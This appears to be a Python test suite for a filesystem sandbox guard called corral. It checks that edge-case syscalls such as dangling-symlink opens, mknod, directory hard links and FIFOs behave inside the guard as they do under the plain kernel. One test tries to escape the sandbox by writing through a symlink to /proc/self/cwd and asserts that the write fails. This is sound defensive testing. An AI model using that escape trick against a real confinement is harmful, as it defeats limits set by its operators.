SEMANTICS = (
    PRELUDE
    + r"""
W = os.O_CREAT | os.O_WRONLY
os.mkdir("d")
os.mkdir("other")
open("f", "w").close()


def sh(script):
    r = subprocess.run(["sh", "-c", script], capture_output=True, text=True, timeout=30)
    return f"exit {r.returncode}: {r.stdout.strip()}"


out = {
    "open('plain/', O_CREAT)": outcome(lambda: os.close(os.open("plain/", W, 0o644))),
    "open(dir, O_CREAT)": outcome(lambda: os.close(os.open("d", W))),
    "open('f/x', O_CREAT)": outcome(lambda: os.close(os.open("f/x", W))),
    "open('missing/x', O_CREAT)": outcome(lambda: os.close(os.open("missing/x", W))),
    "open('', O_CREAT)": outcome(lambda: os.close(os.open("", W))),
    "O_CREAT|O_DIRECTORY": outcome(lambda: os.close(os.open("dd", W | os.O_DIRECTORY))),
    "O_EXCL on a dangling symlink": outcome(
        lambda: (os.symlink("t1", "l1"), os.close(os.open("l1", W | os.O_EXCL)))
    ),
    "O_NOFOLLOW on a dangling symlink": outcome(
        lambda: (os.symlink("t2", "l2"), os.close(os.open("l2", W | os.O_NOFOLLOW)))
    ),
    "a 300-byte name": outcome(lambda: os.close(os.open("x" * 300, W))),
    "symlink to ''": outcome(lambda: os.symlink("", "empty")),
    "rename a directory into itself": outcome(lambda: os.rename("d", "d/x")),
    "hard link to a directory": outcome(lambda: os.link("d", "d2")),
    "mknod of a character device": outcome(lambda: os.mknod("c", stat.S_IFCHR | 0o644, 259)),
    # A log file symlinked to the standard output, as containerised apps ship them.
    "write through a symlink to /dev/stdout": sh("ln -s /dev/stdout out.log; (echo via-link > out.log) | cat"),
    # `producer > fifo & consumer < fifo`: the writer's open waits for the reader.
    "a FIFO's writer opening before its reader": sh(
        "mkfifo q; (echo through-fifo > q) & sleep 0.3; timeout 5 cat q; wait"
    ),
}
print(json.dumps(out))
"""
)


def test_proc_self_in_the_middle_of_a_path_creates_nothing_elsewhere(world: World) -> None:
    # The kernel resolves `here -> /proc/self/cwd` for the guard, not the caller (docs/local.md,
    # "What the guard cannot see"): it leads to the guard's read-only working directory, so
    # the call fails instead of creating in the directory corral was started in.
    r = world.sh(
        "mkdir other; ln -s /proc/self/cwd here; cd other && echo x > ../here/made; echo made=$?"
    )
    assert results(r.stdout)["made"] != "0", (r.stdout, r.stderr)
    assert not list(world.project.rglob("made")), r.stderr


def test_the_calls_the_guard_performs_answer_as_the_kernel_would(world: World) -> None:
    assert USER_PYTHON is not None
    control_dir = world.base / "control"
    control_dir.mkdir()
    _chown(control_dir)
    user = (
        ["setpriv", f"--reuid={USER}", f"--regid={USER}", "--clear-groups"]
        if os.geteuid() == 0
        else []
    )
    control = subprocess.run(
        [*user, USER_PYTHON, "-I", "-c", SEMANTICS, json.dumps(NR)],
        cwd=control_dir,
        capture_output=True,
        text=True,
        timeout=60,
    )
    want = _json(control)
    work = world.project / "work"
    work.mkdir()
    _chown(work)
    got = _json(_py(world, SEMANTICS, NR, cwd=work))
    differ = {
        case: f"{got[case]!r}, without corral {want[case]!r}"
        for case in want
        if got[case] != want[case]
    }
    assert not differ, differ
